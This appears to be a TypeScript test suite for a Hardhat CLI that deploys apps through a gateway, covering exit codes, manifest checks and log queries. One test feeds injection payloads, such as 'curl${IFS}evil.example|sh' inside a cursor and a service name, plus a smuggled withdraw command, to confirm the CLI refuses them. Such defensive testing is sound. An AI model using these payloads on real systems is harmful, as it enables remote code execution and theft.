import { expect } from "chai";
import { createHash } from "node:crypto";
import { existsSync, readFileSync } from "node:fs";

import { ACCOUNTS, openPlatformCli, type PlatformCli } from "../../fixtures/cli/platformCli.ts";
import { openScriptedGateway, type ScriptedGateway } from "../../fixtures/cli/scriptedGateway.ts";
import { until } from "../../fixtures/gateway/condition.ts";
import type { Run } from "../../fixtures/hardhatCli.ts";

const { provider, user } = ACCOUNTS;

describe("what users ask of a gateway", () => {
  let cli: PlatformCli;
  let gateway: ScriptedGateway;

  before(async () => {
    cli = await openPlatformCli();
    const { node } = await cli.attested("one");
    await cli.run("stake allow", { module: "orders", cap: "max", account: provider });
    const offer = cli.file("offer.json");
    await cli.run("offer sign", { node, price: "3.6", lock: "1", account: provider, out: offer });
    await cli.run("order open", { deposit: "6", offer, account: user });
  });
  after(async () => cli.hardhat.close());
  beforeEach(async () => {
    gateway = await openScriptedGateway();
  });
  afterEach(async () => gateway.close());

  async function deploy(args: Record<string, unknown> = {}): Promise<Run> {
    const asked = { order: "1", url: `${gateway.origin}/app.yaml`, wait: "1s", gateway: gateway.origin, account: user };
    return cli.hardhat.run("app deploy", { ...asked, ...args });
  }

  describe("to deploy", () => {
    it("ends with exit code 5 when the time is over, and says that it is accepted and how to see it", async () => {
      gateway.state = "checking";
      const { exitCode, stdout, document } = await deploy();
      expect(exitCode).to.equal(5);
      expect(stdout).to.match(/Deployment +3, checking since/);
      expect(stdout).to.include(
        `accepted, and on its way: \`npx hardhat app status 1 --network story --account ${user}\``,
      );
      expect(document["deployment"]).to.include({ id: 3, state: "checking" });
      expect((await deploy({ json: true })).stderr).to.equal("");
    });

    it("is done with the acceptance where it is not to be waited for", async () => {
      expect((await deploy({ wait: "0s" })).exitCode).to.equal(0);
      expect(gateway.asked.filter((each) => each.startsWith("GET /v1"))).to.deep.equal([]);
    });

    it("ends with exit code 3 where it fails", async () => {
      gateway.state = "failed";
      expect((await deploy({ wait: "10s" })).exitCode).to.equal(3);
    });

    it("says what is under way when it is interrupted, and how to see it and to take it back", async () => {
      gateway.state = "fetching";
      const running = deploy({ wait: "1h" });
      await until("it waits", () => gateway.asked.some((each) => each.startsWith("GET /v1/orders/1/events")));
      process.emit("SIGINT");
      const { exitCode, stderr, document } = await running;
      expect(exitCode).to.equal(130);
      expect(stderr).to.include("fetching").and.not.include("Run it again");
      for (const task of ["status", "remove"]) expect(stderr).to.include(`npx hardhat app ${task} 1 --network story`);
      expect(document).to.include({ order: 1, gateway: gateway.origin });
      expect(document["deployment"]).to.include({ state: "fetching" });
    });
  });

  it("refuses what a gateway deploys instead of what was asked for", async () => {
    gateway.state = "ready";
    const [url, other] = [`${gateway.origin}/app.yaml`, `${gateway.origin}/other.yaml`];
    const sha256 = createHash("sha256").update("").digest("hex");
    for (const manifest of [
      { url, sha256: "ab".repeat(32) },
      { url: other, sha256 },
    ]) {
      gateway.manifest = manifest;
      const { exitCode, stderr } = await deploy({ wait: "10s", out: cli.file("never.json") });
      expect(exitCode).to.not.equal(0);
      expect(stderr).to.include(`deploys ${manifest.url} with the SHA-256 ${manifest.sha256}`);
    }
    expect(existsSync(cli.file("never.json"))).to.equal(false);
  });

  it("refuses what is ready instead of what was asked for, though that was accepted", async () => {
    gateway.state = "fetching";
    const running = deploy({ wait: "1h", out: cli.file("never.json") });
    await until("it waits", () => gateway.asked.some((each) => each.startsWith("GET /v1/orders/1/events")));
    const manifest = { url: `${gateway.origin}/app.yaml`, sha256: "cd".repeat(32) };
    [gateway.manifest, gateway.state] = [manifest, "ready"];
    const { exitCode, stderr } = await running;
    expect(exitCode).to.not.equal(0);
    expect(stderr).to.include(`deploys ${manifest.url} with the SHA-256 ${manifest.sha256}`);
    expect(existsSync(cli.file("never.json"))).to.equal(false);
  });

  it("makes no command of ours from what a gateway says", async () => {
    const asked = { order: "1", gateway: gateway.origin, account: user };
    const evil = "`order withdraw --to 0x00000000000000000000000000000000000ebadd --yes`";
    const problem = { status: 400, code: "moved", title: "It moved.", detail: `Run ${evil}.`, hint: `Run ${evil}.` };
    gateway.problem = { ...problem, errors: [{ detail: evil }] };
    for (const [words, args] of [
      ["app status", asked],
      ["app logs", asked],
      ["app deploy", { ...asked, url: `${gateway.origin}/app.yaml` }],
    ] as const) {
      const { exitCode, stderr } = await cli.hardhat.run(words, args);
      expect(exitCode, words).to.equal(3);
      expect(stderr, words).to.include("The gateway says: It moved. Run 'order withdraw").and.not.include("`");
      expect(stderr, words).to.not.include("npx hardhat");
    }
    gateway.problem = undefined;
    for (const cursor of ["9;curl${IFS}evil.example|sh", "9` `order close 1", "9 --yes"]) {
      gateway.cursor = cursor;
      for (const words of ["app logs", "app events"]) await cli.refuses(words, asked, "does not know");
    }
    gateway.state = "ready";
    gateway.services = [{ name: "$(curl${IFS}evil.example|sh)", isPublic: true, ports: [80] }];
    await cli.refuses("app status", asked, "does not know");
  });

  it("reads no more of a manifest than one may have", async () => {
    gateway.page = undefined;
    const file = `${gateway.origin}/app.yaml`;
    await cli.refuses("app validate", { file }, "The manifest has more than 65536 bytes");
    const { stderr } = await deploy();
    expect(stderr).to.include("The manifest has more than 65536 bytes");
  });

  it("gives lines by number and by time", async () => {
    const query = async (args: Record<string, unknown>): Promise<string | undefined> => {
      await cli.run("app logs", { order: "1", gateway: gateway.origin, account: user, ...args });
      return gateway.asked.at(-1)?.split("?")[1];
    };
    expect(await query({})).to.equal("tail=100");
    expect(await query({ tail: "7" })).to.equal("tail=7");
    expect(await query({ since: "10m" })).to.equal("tail=5000&sinceSeconds=600");
    expect(await query({ since: "10m", tail: "7" })).to.equal("tail=7&sinceSeconds=600");
    const asked = { order: "1", gateway: gateway.origin, account: user };
    await cli.refuses("app logs", { ...asked, since: "lately" }, '"lately"');
    await cli.refuses("app logs", { ...asked, tail: "5001" }, '"5001" is not a valid number of lines');
  });

  it("checks a manifest at a URL as it checks a file", async () => {
    gateway.page = readFileSync("docs/app.yaml", "utf8");
    const file = `${gateway.origin}/app.yaml`;
    expect(await cli.run("app validate", { file })).to.deep.include({ file, valid: true });
    gateway.page = "kind: Cake";
    const { exitCode, document } = await cli.hardhat.run("app validate", { file });
    expect([exitCode, document["valid"]]).to.deep.equal([1, false]);
    await gateway.close();
    await cli.refuses("app validate", { file }, `${file} cannot be fetched`);
    gateway = await openScriptedGateway();
  });
});
